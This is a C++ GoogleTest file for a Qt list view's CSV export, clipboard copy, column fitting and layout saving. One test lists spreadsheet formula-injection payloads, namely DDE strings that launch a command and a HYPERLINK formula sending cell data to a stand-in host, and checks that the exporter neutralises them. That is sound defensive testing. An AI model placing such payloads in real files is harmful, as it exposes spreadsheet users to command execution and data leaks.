#include "basedeprueba.h"
#include "respuestas.h"

#include "servicios/accioneslista.h"
#include "servicios/ajustelista.h"
#include "servicios/entornosql.h"
#include "servicios/funcionessql.h"

#include "controles/listview.h"
#include "runtime/settings.h"

#include <QFile>
#include <QFileDialog>
#include <QHeaderView>
#include <QMenu>
#include <QTemporaryDir>
#include <QTest>

#include <gtest/gtest.h>

namespace {

using Servicios::AccionesLista::textoCsv;
using Servicios::AccionesLista::textoTabulado;

// Three opportunities whose texts need quoting, shown sorted by amount text, descending.
void llenaOportunidades(Kit::ListView &lista)
{
    lista.replaceContents({"Folio", "Descripción", "Monto"}, {{QString(), {"F-1", "Uno; dos", "10.00"}},
                                                              {QString(), {"F-2", "Dice \"sí\"", "30.00"}},
                                                              {QString(), {"F-3", "Línea\nnueva\tcon tab", "20.00"}}});
    lista.setSortKey(2);
    lista.setSortOrder(Qt::DescendingOrder);
    lista.setSorted(true);
}

// Rows in the order shown, columns as shown (moved, without hidden ones), texts quoted where
// the format needs it.
TEST(AccionesLista, theCsvAndTheCopyFollowTheShownOrderAndQuoteWhatNeedsIt)
{
    Kit::ListView lista;
    llenaOportunidades(lista);

    EXPECT_EQ(textoCsv(lista), "Folio;Descripción;Monto\r\n"
                               "F-2;\"Dice \"\"sí\"\"\";30.00\r\n"
                               "F-3;\"Línea\nnueva\tcon tab\";20.00\r\n"
                               "F-1;\"Uno; dos\";10.00\r\n");
    EXPECT_EQ(textoTabulado(lista), "Folio\tDescripción\tMonto\n"
                                    "F-2\tDice \"sí\"\t30.00\n"
                                    "F-3\tLínea nueva con tab\t20.00\n"
                                    "F-1\tUno; dos\t10.00\n");

    lista.header()->moveSection(2, 0); // Monto first
    lista.header()->hideSection(1);    // no Descripción
    EXPECT_EQ(textoCsv(lista), "Monto;Folio\r\n30.00;F-2\r\n20.00;F-3\r\n10.00;F-1\r\n");
}

// Cells a spreadsheet would run as formulas go out as text; numbers stay numbers.
TEST(AccionesLista, theCsvCarriesNoFormulas)
{
    const std::vector<std::pair<QString, QString>> casos = {
        {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
         "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "\"'\r=1+1\""},
        {"-1234.50", "-1234.50"},
        {"-$1,234.50", "-$1,234.50"},
        {"-$1,2+cmd|' /C calc'!A0", "'-$1,2+cmd|' /C calc'!A0"},
        {"+7", "+7"},
        {"-", "'-"},
        {"a=b", "a=b"}};
    for (const auto &[valor, esperado] : casos) {
        SCOPED_TRACE(valor.toStdString());
        Kit::ListView lista;
        lista.replaceContents({"=Folio"}, {{QString(), {valor}}});
        EXPECT_EQ(textoCsv(lista), QStringLiteral("'=Folio\r\n") + esperado + QStringLiteral("\r\n"));
    }
}

// The list shows a huge cell cut; what goes out is the whole text.
TEST(AccionesLista, theCsvAndTheCopyTakeACellLongerThanTheListShowsWhole)
{
    const QString larga = QString(Kit::ListModel::shownLength, u'x') + "fin";
    Kit::ListView lista;
    lista.replaceContents({"Nota"}, {{QString(), {larga}}});
    EXPECT_EQ(textoCsv(lista), "Nota\r\n" + larga + "\r\n");
    EXPECT_EQ(textoTabulado(lista), "Nota\n" + larga + "\n");
}

class MenuLista : public ::testing::Test
{
protected:
    MenuLista()
    {
        lista.setObjectName("lvOrdenes");
        llenaOportunidades(lista);
        lista.show();
    }

    Pruebas::BaseDePrueba base;
    Servicios::EntornoSql entorno;
    Servicios::FuncionesSql funciones{entorno};
    Kit::ListView lista;
};

TEST_F(MenuLista, exportingToCsvSavesTheChosenFileInUtf8WithBom)
{
    QTemporaryDir carpeta;
    const QString ruta = carpeta.filePath("oportunidades.csv");
    Pruebas::alAparecer("mnuAccionLista", [](QWidget &ventana) {
        auto &menu = static_cast<QMenu &>(ventana);
        menu.setActiveAction(menu.findChild<QAction *>("accExportarCsv"));
        QTest::keyClick(&menu, Qt::Key_Return);
    });
    Pruebas::alAparecer("dlgExportarCsv", [ruta](QWidget &ventana) {
        auto &dialogo = static_cast<QFileDialog &>(ventana);
        EXPECT_TRUE(dialogo.testOption(QFileDialog::DontUseNativeDialog));
        dialogo.selectFile(ruta);
        QMetaObject::invokeMethod(&dialogo, "accept");
    });

    funciones.AccionLista(lista);

    QFile archivo(ruta);
    ASSERT_TRUE(archivo.open(QIODevice::ReadOnly));
    EXPECT_EQ(archivo.readAll(), QByteArray("\xEF\xBB\xBF") + textoCsv(lista).toUtf8());
}

// Each column takes the width of its header and of the texts of the first rows, those beyond
// unmeasured; in a window too narrow for them all, the text columns give up width, never below
// a few characters, while the folio, the figures and the dates keep theirs.
TEST(AjusteLista, fitsEachColumnToItsHeaderAndFirstRowsShrinkingTextOnesToTheListsWidth)
{
    Kit::ListView lista;
    lista.resize(560, 200);
    lista.show();
    const QString largo = "Migración a la nube — Distribuidora La Paz, segunda etapa";
    const QString lejano(30, 'n'); // in the first row not measured
    std::vector<Kit::ListRow> filas(Servicios::AjusteLista::FilasMedidas + 1,
                                    {QString(), {"OP-2026-000001", largo, largo, "04/03/2026", "$999,477,930.17"}});
    filas.front().texts[0] = "OP-1";
    filas.back().texts[0] = lejano;
    lista.replaceContents({"Folio", "Descripción", "Organización", "Cierre estimado", "Monto"}, std::move(filas));

    Servicios::AjusteLista().AjustaAlAncho(lista);

    const QHeaderView &encabezado = *lista.header();
    const QFontMetrics medida(lista.font());
    EXPECT_LE(encabezado.length(), lista.viewport()->width());
    EXPECT_GE(encabezado.sectionSize(0), medida.horizontalAdvance("OP-2026-000001"));
    EXPECT_LT(encabezado.sectionSize(0), medida.horizontalAdvance(lejano));
    EXPECT_GE(encabezado.sectionSize(3), QFontMetrics(encabezado.font()).horizontalAdvance("Cierre estimado"));
    for (const int columna : {1, 2}) {
        EXPECT_LT(encabezado.sectionSize(columna), medida.horizontalAdvance(largo)) << columna;
        EXPECT_GE(encabezado.sectionSize(columna), medida.averageCharWidth() * 10) << columna;
    }
}

// A reload keeps the columns as the user left them; another view brings its own layout, or
// fits the columns when it has none; coming back brings the first one's again.
TEST_F(MenuLista, eachViewKeepsTheUsersLayoutOnReload)
{
    const QString consulta = QStringLiteral("SELECT Op_Folio AS \"Folio\", Op_Descripcion AS \"Descripción\","
                                            " Op_Monto AS \"Monto\" FROM Oportunidad");
    base.ejecuta("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto)"
                 " VALUES ('F-1', 'Licencias', 'V1', 10), ('F-2', 'Servidores', 'V1', 20)");
    const auto muestra = [&](const QString &vista) {
        lista.setLayoutKey(QStringLiteral("Pruebas/lvOrdenes/") + vista);
        EXPECT_TRUE(funciones.LlenaLista(consulta, lista, -1));
        return lista.header()->sectionSize(1);
    };
    const int ajustada = muestra("TODOS");
    lista.header()->resizeSection(1, ajustada + 77);
    EXPECT_EQ(muestra("TODOS"), ajustada + 77); // a reload keeps what the user did
    lista.saveLayout();
    EXPECT_EQ(muestra("GANADAS"), ajustada);
    EXPECT_EQ(muestra("TODOS"), ajustada + 77);
    Runtime::removeSettings("Pruebas", "lvOrdenes");
}

} // namespace
